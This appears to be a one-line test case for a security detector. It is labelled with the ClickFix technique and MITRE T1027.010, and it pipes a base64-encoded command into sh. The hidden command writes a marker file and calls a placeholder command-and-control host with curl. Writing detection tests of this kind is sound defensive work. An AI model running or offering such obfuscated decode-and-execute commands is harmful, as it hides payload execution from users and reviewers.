# expect: decoded-code-run | source: T1027.010, ClickFix
echo ZWNobyBsb29rID4gL3RtcC9sb29rLmZpcmVkOyBjdXJsIC1zIGh0dHA6Ly9jMi5leGFtcGxlLmludmFsaWQv | base64 -d | sh
